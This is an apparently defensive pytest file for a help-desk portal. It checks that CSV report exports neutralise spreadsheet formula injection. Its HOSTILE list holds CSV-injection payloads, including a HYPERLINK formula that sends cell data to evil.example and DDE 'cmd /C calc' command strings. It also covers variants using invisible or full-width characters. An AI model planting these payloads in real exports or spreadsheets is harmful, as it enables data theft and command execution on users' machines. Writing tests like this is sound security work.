"""Formula cells, every export: whatever people typed reaches the dashboard's CSV files as text a spreadsheet shows,
never as a formula it runs (OWASP's CSV injection), and the figures Mesa computes stay numbers.

The world below plants hostile text in every field a report exports: anonymous searches (page and API), ticket
subjects, satisfaction comments, agent and group names, article paths. Then every figure the dashboard offers for
download is fetched and parsed like a spreadsheet would."""

from __future__ import annotations

import ast
import csv
import io
import re
import unicodedata
from datetime import timedelta
from pathlib import Path
from urllib.parse import quote

import pytest

from portal.clock import utcnow
from portal.models import ArticleView, ArticleVote, Group, Message, SatisfactionRating, SentArticle
from portal.services import report_tables, reports
from portal.views import csv_export
from tests.conftest import login

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "\n=3+3",
    "\uff1d4+4",  # full-width equals sign
    "\uff205+5",  # full-width commercial at
    " =6+6",
    "\u200b=7+7",  # zero-width space first
]
TRIGGERS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def runs_as_formula(text: str) -> bool:
    """What a spreadsheet might run: a trigger first, or first after spaces and invisible characters."""
    visible = text.lstrip("".join(ch for ch in set(text) if ch.isspace() or unicodedata.category(ch)[0] in "CZ"))
    return text.startswith(TRIGGERS) or visible.startswith(TRIGGERS)


@pytest.fixture
def hostile_world(app, db, make):
    """Every field a figure exports, filled with a formula. Searches go through the real anonymous pages, each
    from a visitor of its own (one visitor's searches in a row are refinements of one search)."""
    for text in HOSTILE:
        assert app.test_client().get(f"/kb/search?q={quote(text)}").status_code == 200
        assert app.test_client().get(f"/api/v1/kb/search?q={quote(text)}").status_code == 200
    assert app.test_client().get("/kb/search?q=invoice").status_code == 200  # with results, for top searches
    now = utcnow()
    customer = make.user(email="mallory@example.com", name=HOSTILE[0])
    agents = [make.user(email=f"agent{n}@example.com", name=name, role="agent") for n, name in enumerate(HOSTILE)]
    for n, (text, agent) in enumerate(zip(HOSTILE, agents, strict=True)):
        group = Group(name=text)
        db.add(group)
        db.flush()
        open_one = make.ticket(requester=customer, subject=text, status="open", assignee=agent,
                               now=now - timedelta(hours=5, minutes=n))
        open_one.group_id, open_one.sla_due_at = group.id, now - timedelta(minutes=n)
        solved = make.ticket(requester=customer, subject=text, status="solved", assignee=agent,
                             now=now - timedelta(hours=2))
        solved.first_response_at = now - timedelta(hours=1)
        db.add(Message(ticket_id=solved.id, author_id=agent.id, body="Done", public=True,
                       created_at=now - timedelta(hours=1)))
        db.add(SatisfactionRating(ticket_id=solved.id, rating="good" if n % 2 else "bad", comment=text,
                                  created_at=now, updated_at=now))
        db.add(ArticleView(path=text, lang="en", created_at=now))
        db.add(ArticleVote(path=text, voter=f"visitor:{n}", visitor_id=str(n), helpful=True, created_at=now,
                           updated_at=now))
        db.add(SentArticle(ticket_id=solved.id, article_path=text, created_at=now))
    db.commit()


def figure_names(db, admin) -> list[str]:
    now = utcnow()
    board = report_tables.build(db, actor=admin, period=reports.parse_period("7", None, None, now=now),
                                filters=reports.parse_filters({}), now=now)
    return sorted(board.tables)


def test_no_exported_cell_starts_a_formula_and_every_planted_text_is_kept(client, db, make, hostile_world):
    admin = make.user(email="boss@example.com", name="Boss", role="admin")
    login(client, admin)
    page = client.get("/agent/reports?period=7").text
    names = figure_names(db, admin)
    assert set(re.findall(r"format=csv&amp;figure=(\w+)", page)) == set(names)  # the page offers each of them
    neutralised: set[str] = set()
    for name in names:
        response = client.get(f"/agent/reports?format=csv&figure={name}&period=7")
        assert response.status_code == 200 and response.mimetype == "text/csv", name
        rows = list(csv.reader(io.StringIO(response.text)))
        for row in rows:
            for value in row:
                assert not runs_as_formula(value), (name, value)
                if value.startswith("'"):
                    neutralised.add(name)
        if name == "daily":  # counts Mesa computes are written as numbers, not made text
            assert all(re.fullmatch(r"\d+", value) for row in rows[1:] for value in row[1:])
        if name == "agents":
            assert any(re.fullmatch(r"\d+\.\d", value) for row in rows[1:] for value in row[3:5])
    # The text arrived (with its apostrophe) in every figure that shows what people typed or named.
    assert {"backlog_group", "sla_at_risk", "oldest_open", "csat_comments", "agents", "top_searches",
            "zero_result_searches", "most_viewed", "most_helpful", "sent_articles"} <= neutralised


@pytest.mark.parametrize("text", HOSTILE)
def test_the_writer_keeps_the_text_after_an_apostrophe(text):
    [[written]] = csv.reader(io.StringIO(csv_export.write_rows([[text]]), newline=""))
    assert written == "'" + text and not runs_as_formula(written)


@pytest.mark.parametrize("value, expected", [
    (-12, "-12"), (-1.5, "-1.5"), (0, "0"), ("a-b", "a-b"), ("mail@example.com", "mail@example.com"),
    ("1+1", "1+1"), ("", ""), (None, ""), ("-5", "'-5"), ("'=1", "'=1"),
])
def test_numbers_mesa_computes_stay_numbers_and_ordinary_text_is_untouched(value, expected):
    [[written]] = csv.reader(io.StringIO(csv_export.write_rows([[value]]), newline=""))
    assert written == expected


def test_every_field_is_quoted_so_another_separator_cannot_start_a_cell():
    assert csv_export.write_rows([["a;=1+1", 3]]) == '"a;=1+1","3"\r\n'


def test_no_csv_is_written_anywhere_but_the_one_export_helper():
    """A new export cannot skip the neutralisation: only portal/views/csv_export.py may write CSV."""
    portal = Path(csv_export.__file__).resolve().parents[1]
    writers = []
    for path in portal.rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        imports_csv = any(isinstance(node, ast.Import) and any(a.name == "csv" for a in node.names)
                          or isinstance(node, ast.ImportFrom) and node.module == "csv" for node in ast.walk(tree))
        names_csv_type = any(isinstance(node, ast.Constant) and isinstance(node.value, str)
                             and "text/csv" in node.value for node in ast.walk(tree))
        if imports_csv or names_csv_type:
            writers.append(path.relative_to(portal).as_posix())
    assert writers == ["views/csv_export.py"]
